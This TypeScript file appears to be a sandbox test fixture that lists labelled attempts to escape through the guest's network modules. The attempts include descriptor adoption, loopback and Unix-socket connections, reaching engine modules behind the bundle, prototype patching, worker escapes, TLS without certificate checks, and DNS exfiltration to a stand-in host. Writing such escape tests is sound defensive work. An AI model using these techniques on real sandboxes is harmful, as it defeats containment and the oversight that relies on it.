import type { EscapeAttempt } from './escape-attempts.ts';

const connected = (socket: string): string =>
  `new Promise((got, not) => ${socket}.on('connect', () => got('connected')).on('secureConnect', () => got('connected')).on('error', not))`;

/** Ways out through the network modules that the guest makes: `net`, `tls`, `dns`, `http` and `https` are a bundle's. */
export const escapesBySocket: readonly EscapeAttempt[] = [
  {
    what: 'adopt the descriptor of the channel',
    code: `const socket = new net.Socket({ fd: 3 }); return socket.constructor.name`,
  },
  {
    what: 'adopt a handle',
    code: `const own = new (require('node:net').Socket)({ fd: 3 }); const socket = new net.Socket({ handle: own._handle ?? own }); return socket.constructor.name`,
  },
  { what: 'connect a socket to the loopback', code: `return ${connected(`net.connect(target.port, '127.0.0.1')`)}` },
  {
    what: 'connect a socket that was made before',
    code: `return ${connected(`new net.Socket().connect({ host: '127.0.0.1', port: target.port })`)}`,
  },
  { what: 'connect a socket to a path', code: `return ${connected(`net.connect(target.socket)`)}` },
  {
    what: 'connect a socket to a path as an option',
    code: `return ${connected(`net.connect({ path: target.socket })`)}`,
  },
  {
    what: 'connect a socket with a path beside host and port',
    code: `return ${connected(`net.connect({ host: 'api.example.com', port: 443, path: target.socket })`)}`,
  },
  {
    what: 'resolve with a function of its own',
    code: `return ${connected(`net.connect({ host: 'api.example.com', port: target.port, lookup: (host, options, done) => (options.all ? done(null, [{ address: '127.0.0.1', family: 4 }]) : done(null, '127.0.0.1', 4)) })`)}`,
  },
  {
    what: 'choose the address to connect from',
    code: `return ${connected(`net.connect({ host: '127.0.0.1', port: target.port, localAddress: '127.0.0.1' })`)}`,
  },
  {
    what: 'connect with TLS and no check of certificates',
    code: `return ${connected(`tls.connect({ host: '127.0.0.1', port: target.port, rejectUnauthorized: false, checkServerIdentity: () => undefined })`)}`,
  },
  {
    what: 'encrypt a stream of the engine',
    code: `return ${connected(`tls.connect({ socket: new (require('node:net').Socket)().connect(target.port, '127.0.0.1') })`)}`,
  },
  {
    what: 'encrypt a socket that is not open',
    code: `return ${connected(`tls.connect({ socket: new net.Socket() })`)}`,
  },
  {
    what: 'listen with the module of the guest',
    code: `return new Promise((got, not) => net.createServer().listen(0, () => got('listening')).on('error', not))`,
  },
  {
    what: 'listen with a server that was constructed',
    code: `return new Promise((got, not) => new net.Server().listen(0, '127.0.0.1', () => got('listening')).on('error', not))`,
  },
  {
    what: 'listen with TLS',
    code: `return new Promise((got, not) => tls.createServer({}).listen(0, () => got('listening')).on('error', not))`,
  },
  {
    what: 'listen with HTTP',
    code: `return new Promise((got, not) => http.createServer().listen(0, () => got('listening')).on('error', not))`,
  },
  {
    what: 'ask a socket of the file system with HTTP',
    code: `return new Promise((got, not) => http.get({ socketPath: target.socket, path: '/' }, (response) => got(response.statusCode)).on('error', not))`,
  },
  {
    what: 'ask the loopback with the agents of the guest',
    code: `return new Promise((got, not) => http.get('http://127.0.0.1:' + target.port, (response) => got(response.statusCode)).on('error', not))`,
  },
  {
    what: 'ask the loopback over HTTPS without a check',
    code: `return new Promise((got, not) => https.get('https://127.0.0.1:' + target.port, { rejectUnauthorized: false }, (response) => got(response.statusCode)).on('error', not))`,
  },
  {
    what: 'take the connections of the guest away from the agents',
    code: `delete http.Agent.prototype.createConnection; return new Promise((got, not) => http.get({ host: '127.0.0.1', port: target.port, agent: new http.Agent() }, (response) => got(response.statusCode)).on('error', not))`,
  },
  {
    what: 'give an agent connections of the engine',
    code: `const agent = Object.assign(new http.Agent(), { createConnection: require('node:net').connect }); return new Promise((got, not) => http.get({ host: '127.0.0.1', port: target.port, agent }, (response) => got(response.statusCode)).on('error', not))`,
  },
  {
    what: 'change how a socket asks the host',
    code: `const { open } = net.Socket.prototype; net.Socket.prototype.open = async function () { this.carry({ ask() {}, write: async () => {}, end: async () => {}, close() {} }); }; const socket = net.connect(target.port, '127.0.0.1'); net.Socket.prototype.open = open; return new Promise((got, not) => { socket.on('data', got).on('error', not); socket.write('x'); setTimeout(not, 200, new Error('nobody is there')); })`,
  },
  {
    what: 'give a socket of the guest the connect of the engine',
    code: `net.Socket.prototype.connect = require('node:net').Socket.prototype.connect; return ${connected(`new net.Socket().connect(target.port, '127.0.0.1')`)}`,
  },
  {
    what: 'reach the module of the engine behind the bundle',
    code: `return ${connected(`process.getBuiltinModule('node:net').connect(target.port, '127.0.0.1')`)}`,
  },
  {
    what: 'reach the TLS of the engine behind the bundle',
    code: `return ${connected(`process.getBuiltinModule('node:tls').connect(target.port, '127.0.0.1', { rejectUnauthorized: false })`)}`,
  },
  {
    what: 'find the constructor behind a socket',
    code: `const Duplex = Object.getPrototypeOf(net.Socket); const Real = Object.values(require('node:net')).find((value) => typeof value === 'function' && value.name === 'Socket'); return ${connected(`Reflect.construct(Real, [{}]).connect(target.port, '127.0.0.1')`)}`,
  },
  { what: 'resolve a name with the guest', code: `return (await dns.promises.lookup('localhost')).address` },
  {
    what: 'resolve a name with a callback',
    code: `return new Promise((got, not) => dns.lookup('localhost', { all: true }, (error, found) => (error ? not(error) : got(JSON.stringify(found)))))`,
  },
  {
    what: 'send data out in a query of the guest',
    code: `return (await dns.promises.resolve4('secret.example.com')).join()`,
  },
  {
    what: 'ask for another type of record',
    code: `return JSON.stringify(await dns.promises.resolveTxt('secret.example.com'))`,
  },
  {
    what: 'ask a name server of its own',
    code: `const resolver = new dns.promises.Resolver(); resolver.setServers(['127.0.0.1:' + target.port]); return (await resolver.resolve4('secret.example.com')).join()`,
  },
  {
    what: 'ask a name server with the engine',
    code: `const { Resolver } = process.getBuiltinModule('node:dns').promises; const resolver = new Resolver({ timeout: 200, tries: 1 }); resolver.setServers(['127.0.0.1:' + target.port]); return (await resolver.resolve4('secret.example.com')).join()`,
  },
  {
    what: 'import the file of the guest anew',
    code: `const module = await import('./sockets.mjs?again'); return ${connected(`module.net.connect(target.port, '127.0.0.1')`)}`,
  },
  {
    what: 'connect from a worker',
    code: `return new Promise((got, not) => { const text = 'import net from "node:net"; net.connect(' + target.port + ', "127.0.0.1").on("connect", () => postMessage("connected")).on("error", (error) => { throw error; })'; const worker = new Worker('data:text/javascript,' + encodeURIComponent(text), { type: 'module' }); worker.onmessage = (event) => got(event.data); worker.onerror = (event) => { event.preventDefault(); not(event.message); }; })`,
  },
];
